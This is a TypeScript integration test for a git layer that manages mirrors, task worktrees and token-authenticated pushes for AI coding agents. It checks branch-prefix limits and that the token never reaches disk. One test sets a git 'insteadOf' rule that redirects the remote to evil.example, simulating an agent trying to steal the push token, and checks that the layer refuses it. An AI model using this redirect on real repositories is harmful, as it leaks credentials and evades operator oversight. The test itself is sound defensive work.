import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  addReadOnlyCheckout,
  botIdentity,
  commitAll,
  commitsAhead,
  ensureMirror,
  ensureTaskWorktree,
  PushRefusedError,
  pushTaskBranch,
  removeWorktreesIn,
  UnsafeRepositoryConfigError,
  mirrorPath,
} from '../../../src/git/index.js';
import { startGitHttpServer, type GitHttpServer } from '../../support/git/gitHttpServer.js';
import {
  commitAuthor,
  createBareRemote,
  fileAt,
  git,
  remoteBranches,
} from '../../support/git/localRemote.js';

const token = 'ghs_test_token_0123456789abcdef';
let temp: string;
let server: GitHttpServer;
let bare: string;
let url: string;
const identity = botIdentity('factory-app[bot]', 4242);

/** Every file under `dir` (including .git internals) that contains `needle`. */
function filesContaining(dir: string, needle: string): string[] {
  const found: string[] = [];
  const walk = (current: string) => {
    for (const entry of readdirSync(current)) {
      const full = path.join(current, entry);
      const stat = statSync(full);
      if (stat.isDirectory()) walk(full);
      else if (readFileSync(full).includes(needle)) found.push(full);
    }
  };
  walk(dir);
  return found;
}

beforeAll(async () => {
  temp = mkdtempSync(path.join(os.tmpdir(), 'factory-git-'));
  const remotes = path.join(temp, 'remotes');
  bare = createBareRemote(remotes, 'app', {
    'README.md': '# app\n',
    'src/index.ts': 'export {};\n',
  });
  server = await startGitHttpServer(remotes, token);
  url = `${server.baseUrl}/app.git`;
});

afterAll(async () => {
  await server.close();
  rmSync(temp, { recursive: true, force: true });
});

describe('the git layer against an HTTP remote that demands a token', () => {
  const place = () => ({ root: path.join(temp, 'worktrees'), owner: 'acme', repo: 'app' });

  it('clones a bare mirror once with the token and fetches into it afterwards', async () => {
    const mirror = await ensureMirror(place(), { url, token });
    expect(mirror).toBe(mirrorPath(place()));
    expect(git(mirror, 'rev-parse', '--is-bare-repository').trim()).toBe('true');
    const firstObjects = git(mirror, 'rev-parse', 'refs/remotes/origin/main').trim();
    // A commit lands on the remote; the next ensure fetches it into the same mirror.
    const other = mkdtempSync(path.join(temp, 'other-'));
    git(other, 'clone', '--quiet', bare, '.');
    writeFileSync(path.join(other, 'NEW.md'), 'new\n');
    git(
      other,
      '-c',
      'user.name=a',
      '-c',
      'user.email=a@b',
      'commit',
      '--quiet',
      '-am',
      'x',
      '--allow-empty',
    );
    git(other, 'push', '--quiet', 'origin', 'main');
    const inode = statSync(path.join(mirror, 'HEAD')).ino;
    await ensureMirror(place(), { url, token });
    expect(statSync(path.join(mirror, 'HEAD')).ino).toBe(inode);
    expect(git(mirror, 'rev-parse', 'refs/remotes/origin/main').trim()).not.toBe(firstObjects);
  });

  it('fails to fetch without the token: the remote really requires it', async () => {
    await expect(ensureMirror({ ...place(), repo: 'no-token' }, { url })).rejects.toThrow(/fetch/);
  });

  it('adds a task worktree on its branch, commits as the bot and pushes only that branch', async () => {
    const mirror = mirrorPath(place());
    const worktreePath = path.join(place().root, 'acme', 'app', 'tasks', '7-8');
    const worktree = await ensureTaskWorktree({
      mirror,
      path: worktreePath,
      branch: 'factory/7-8-add-greeting',
      baseBranch: 'main',
    });
    expect(worktree.origin).toBe('base');
    writeFileSync(path.join(worktreePath, 'greeting.txt'), 'hello\n');
    const commit = await commitAll(worktreePath, identity, 'Add greeting');
    expect(commit.committed).toBe(true);
    expect(await commitsAhead(worktreePath, 'main')).toBe(1);

    await expect(
      pushTaskBranch({
        gitDir: worktreePath,
        branch: 'main',
        taskBranch: 'factory/7-8-add-greeting',
        prefix: 'factory',
        remote: { url, token },
      }),
    ).rejects.toBeInstanceOf(PushRefusedError);
    await expect(
      pushTaskBranch({
        gitDir: worktreePath,
        branch: 'other/7-8-x',
        taskBranch: 'other/7-8-x',
        prefix: 'factory',
        remote: { url, token },
      }),
    ).rejects.toBeInstanceOf(PushRefusedError);

    const before = server.authorizations.length;
    const sha = await pushTaskBranch({
      gitDir: worktreePath,
      branch: 'factory/7-8-add-greeting',
      taskBranch: 'factory/7-8-add-greeting',
      prefix: 'factory',
      remote: { url, token },
    });
    expect(sha).toBe(commit.sha);
    expect(server.authorizations.slice(before).some((auth) => auth.startsWith('Basic '))).toBe(
      true,
    );
    expect(remoteBranches(bare)).toContain('factory/7-8-add-greeting');
    expect(fileAt(bare, 'factory/7-8-add-greeting', 'greeting.txt')).toBe('hello\n');
    expect(commitAuthor(bare, 'factory/7-8-add-greeting')).toBe(
      'factory-app[bot] <4242+factory-app[bot]@users.noreply.github.com>',
    );

    // The token is nowhere on disk: not in the mirror's config, not in the worktree, not in any git file.
    expect(readFileSync(path.join(mirror, 'config'), 'utf8')).not.toContain(token);
    expect(filesContaining(place().root, token)).toEqual([]);
    const base64 = Buffer.from(`x-access-token:${token}`).toString('base64');
    expect(filesContaining(place().root, base64)).toEqual([]);
  });

  it('finds the same worktree again on a retry, keeping uncommitted work', async () => {
    const mirror = mirrorPath(place());
    const worktreePath = path.join(place().root, 'acme', 'app', 'tasks', '7-8');
    writeFileSync(path.join(worktreePath, 'wip.txt'), 'half done\n');
    const again = await ensureTaskWorktree({
      mirror,
      path: worktreePath,
      branch: 'factory/7-8-add-greeting',
      baseBranch: 'main',
    });
    expect(again.origin).toBe('existing');
    expect(readFileSync(path.join(worktreePath, 'wip.txt'), 'utf8')).toBe('half done\n');
  });

  it('recreates a lost worktree from the branch an earlier attempt pushed', async () => {
    const fresh = { root: path.join(temp, 'other-machine'), owner: 'acme', repo: 'app' };
    const mirror = await ensureMirror(fresh, { url, token });
    const worktreePath = path.join(fresh.root, 'tasks', '7-8');
    const worktree = await ensureTaskWorktree({
      mirror,
      path: worktreePath,
      branch: 'factory/7-8-add-greeting',
      baseBranch: 'main',
    });
    expect(worktree.origin).toBe('remote-branch');
    expect(readFileSync(path.join(worktreePath, 'greeting.txt'), 'utf8')).toBe('hello\n');
  });

  it('refuses to push or fetch once the repository config could redirect the token', async () => {
    const mirror = mirrorPath(place());
    const worktreePath = path.join(place().root, 'acme', 'app', 'tasks', '7-8');
    // What an agent could do from its worktree: the config is shared with the mirror.
    git(worktreePath, 'config', 'url.http://evil.example/.insteadOf', server.baseUrl);
    await expect(
      pushTaskBranch({
        gitDir: worktreePath,
        branch: 'factory/7-8-add-greeting',
        taskBranch: 'factory/7-8-add-greeting',
        prefix: 'factory',
        remote: { url, token },
      }),
    ).rejects.toBeInstanceOf(UnsafeRepositoryConfigError);
    await expect(ensureMirror(place(), { url, token })).rejects.toBeInstanceOf(
      UnsafeRepositoryConfigError,
    );
    git(mirror, 'config', '--remove-section', 'url.http://evil.example/');
  });

  it('gives a planner a detached read-only checkout and removes an epic’s worktrees', async () => {
    const mirror = mirrorPath(place());
    const checkout = path.join(place().root, 'acme', 'app', 'plans', 'epic-7');
    const sha = await addReadOnlyCheckout(mirror, checkout, 'main');
    expect(sha).toMatch(/^[0-9a-f]{40}$/);
    expect(existsSync(path.join(checkout, 'README.md'))).toBe(true);
    const removed = await removeWorktreesIn(
      mirror,
      path.join(place().root, 'acme', 'app', 'tasks'),
      '7-',
    );
    expect(removed).toHaveLength(1);
    expect(existsSync(path.join(place().root, 'acme', 'app', 'tasks', '7-8'))).toBe(false);
    expect(
      execFileSync('git', ['worktree', 'list'], { cwd: mirror, encoding: 'utf8' }),
    ).not.toContain('tasks/7-8');
  });
});
